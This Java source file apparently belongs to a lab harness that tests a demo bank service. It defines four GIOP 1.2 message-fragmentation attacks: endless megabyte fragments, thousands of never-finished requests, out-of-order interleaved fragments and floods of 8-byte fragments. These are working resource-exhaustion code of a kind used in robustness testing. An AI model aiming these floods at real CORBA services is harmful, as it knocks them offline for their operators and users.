package org.amo.lab.attack;

import java.io.IOException;
import java.util.Arrays;
import java.util.List;

/** Messages in fragments, as GIOP 1.2 allows them and as it does not. */
final class FragmentAttacks {
    private static final int MEGABYTE = 1 << 20;

    private FragmentAttacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.onBank(
                        "fragments-endless",
                        "200 fragments of 1 MB of requests that never end, over four connections",
                        FragmentAttacks::endless),
                Attack.onBank(
                        "fragments-many-ids",
                        "first fragments of 20,000 requests, none of which ever ends, over twelve connections",
                        FragmentAttacks::manyIds),
                Attack.onBank(
                        "fragments-interleaved",
                        "fragments of ten requests in turns, which end in another order, and of requests that were not begun,"
                                + " 500 a second",
                        FragmentAttacks::interleaved),
                Attack.onBank(
                        "fragments-tiny",
                        "requests cut into fragments of 8 bytes, 2,000 fragments a second",
                        FragmentAttacks::tiny));
    }

    private static void endless(Target target, AttackRate pace) throws IOException, InterruptedException {
        byte[] key = Giop.objectKey(target.reference());
        byte[] part = new byte[MEGABYTE];
        Wire[] wires = new Wire[4];
        pace.crew(wires.length, 200, 40, i -> {
            int at = i % wires.length;
            Wire wire = wires[at];
            if (wire == null) {
                wires[at] = target.client(at).send(Giop.firstFragment(1, key, "deposit", part));
            } else {
                try {
                    wire.send(Giop.fragment(1, part, true));
                } catch (IOException e) {
                    wires[at] = null;
                    wire.close();
                    throw e;
                }
            }
        });
        pace.hold();
    }

    private static void manyIds(Target target, AttackRate pace) throws IOException, InterruptedException {
        byte[] part = new byte[1_000];
        GiopAttacks.flood(target, pace, 2_000, (key, i) -> Giop.firstFragment(i % 20_000, key, "deposit", part));
    }

    private static void interleaved(Target target, AttackRate pace) throws IOException, InterruptedException {
        byte[] key = Giop.objectKey(target.reference());
        String account = target.account();
        byte[] arguments = new Cdr(false).string(account).longLong(1).toBytes();
        byte[] first = Arrays.copyOf(arguments, 8);
        byte[] rest = Arrays.copyOfRange(arguments, 8, arguments.length);
        pace.each(Integer.MAX_VALUE, 500 / 22.0, i -> {
            try (Wire wire = target.client(i)) {
                for (int id = 1; id <= 10; id++) {
                    wire.send(Giop.firstFragment(id, key, "deposit", first));
                }
                wire.send(Giop.fragment(1_000 + i, rest, true));
                for (int id = 10; id > 0; id--) {
                    wire.send(Giop.fragment(id, rest, false));
                }
                wire.send(Giop.fragment(2_000 + i, rest, false));
                Giop.readReply(wire.in());
            }
        });
    }

    private static void tiny(Target target, AttackRate pace) throws IOException, InterruptedException {
        byte[] key = Giop.objectKey(target.reference());
        byte[] part = new byte[8];
        GiopAttacks.flood(target, pace, 2_000, (unused, i) -> {
            int id = i / 12 / 400;
            int at = i / 12 % 400;
            return at == 0 ? Giop.firstFragment(id, key, "deposit", part) : Giop.fragment(id, part, at < 399);
        });
    }
}
